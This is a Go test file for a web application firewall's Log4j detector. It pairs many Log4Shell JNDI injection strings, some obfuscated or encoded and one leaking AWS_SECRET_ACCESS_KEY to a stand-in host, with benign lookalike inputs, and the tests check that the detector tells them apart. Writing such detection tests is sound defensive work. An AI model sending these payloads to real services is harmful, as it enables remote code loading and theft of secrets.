package detect

import (
	"testing"

	"github.com/rampartwaf/rampart/internal/request"
)

func TestLog4j(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  bool
	}{
		// Attacks.
		{"plain ldap", "${jndi:ldap://attacker.example/a}", true},
		{"in user agent text", "Mozilla/5.0 ${jndi:rmi://10.0.0.5:1099/x} Safari", true},
		{"dns", "${jndi:dns://probe.oast.example}", true},
		{"upper case prefix", "${JNDI:LDAP://a.example/x}", true},
		{"lower lookup", "${${lower:j}ndi:ldap://a.example/x}", true},
		{"upper lookups", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://a.example/x}", true},
		{"empty default", "${${::-j}${::-n}${::-d}${::-i}:ldap://a.example/x}", true},
		{"env default", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//a.example/x}", true},
		{"k8s and sd defaults", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a.example/x}", true},
		{"date literal", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://a.example/x}", true},
		{"dotless i upper", "${jnd${upper:ı}:ldap://a.example/x}", true},
		{"nested in protocol", "${jndi:${lower:l}${lower:d}a${lower:p}://a.example/x}", true},
		{"exfiltration", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.a.example/x}", true},
		{"escaped dollar chain", "$${env:x:-${env:x:-$}{jndi:ldap://a.example/x}}}", true},
		{"default then brace", "${::-$}{jndi:ldap://a.example/x}", true},
		{"mangled brace", "$&lbracejndi:ldap://a.example/x}", true},
		{"bare jndi url", "jndi:rmi://a.example:1099/Exploit", true},
		{"deep nesting", "${${lower:${upper:${lower:j}}}ndi:ldap://a.example/x}", true},
		// Benign.
		{"shell variable", "echo ${HOME}/bin", false},
		{"template", "Hello ${user.name}, your order ${order.id} shipped", false},
		{"spring placeholder", "${server.port:8080}", false},
		{"env lookup alone", "${env:DATABASE_URL}", false},
		{"sys lookup alone", "${sys:user.dir}/logs", false},
		{"log4j date pattern", "logs/app-${date:yyyy-MM-dd}.log", false},
		{"bash default", "${NAME:-world}", false},
		{"price", "Only $5 {limited offer}: jndi tutorial", false},
		{"prose about jndi", "How do I configure a JNDI datasource in Tomcat?", false},
		{"java comp name", "java:comp/env/jdbc/MyDB", false},
		{"word containing jndi", "jndiName: jdbc/orders", false},
		{"json with dollar", `{"price":"$12","note":"{gift}"}`, false},
		{"unterminated", "${lower:j", false},
		{"mustache", "{{ user }} ${ notALookup }", false},
		{"dollar brace junk", "a${b}c${d:e}f${g::h}", false},
		{"graphql variables", `query($id: ID!) { node(id: $id) { id } }`, false},
		{"jquery", "$('#x').on('click', function(){ ${x} })", false},
		{"short", "${x}", false},
		{"markdown money", "Costs ${price}: see docs", false},
		{"ldap url alone", "ldap://directory.example.com/ou=people", false},
		{"unresolved nesting", "${${${${lower:j}}}ndi:x}", false},
	}
	attacks, benign := 0, 0
	for _, tt := range tests {
		if tt.want {
			attacks++
		} else {
			benign++
		}
		t.Run(tt.name, func(t *testing.T) {
			_, got := matchLog4j(&request.Param{Source: request.SourceQuery, Name: "q"}, tt.value)
			if got != tt.want {
				t.Errorf("matchLog4j(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
	if benign < attacks {
		t.Errorf("%d benign cases for %d attacks: keep at least as many benign", benign, attacks)
	}
}

// TestLog4jEncoded checks the encoded forms through the dispatch, which decodes them.
func TestLog4jEncoded(t *testing.T) {
	for _, v := range []string{
		"%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D",
		`$\u007Bjndi:ldap://a.example/x}`,
		"$&lbrace;jndi:ldap://a.example/x}",
		"&#36;{jndi:ldap://a.example/x}",
		"%24&lcub;\\u006A&#110;di:ldap://a.example/x}",
		"JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUveH0=", // base64
	} {
		r := &request.Request{Params: []request.Param{{Source: request.SourceHeader, Name: "X-Api-Version", Value: v}}}
		Inspect(r)
		if !has(r, LOG4J, "X-Api-Version") {
			t.Errorf("no %s on %q: %+v", LOG4J, v, r.Signals)
		}
	}
}

func BenchmarkLog4jBenign(b *testing.B) {
	p := &request.Param{Source: request.SourceQuery, Name: "q"}
	for i := 0; i < b.N; i++ {
		matchLog4j(p, "Hello ${user.name}, your order ${order.id} shipped")
		matchLog4j(p, "running shoes size 42")
	}
}
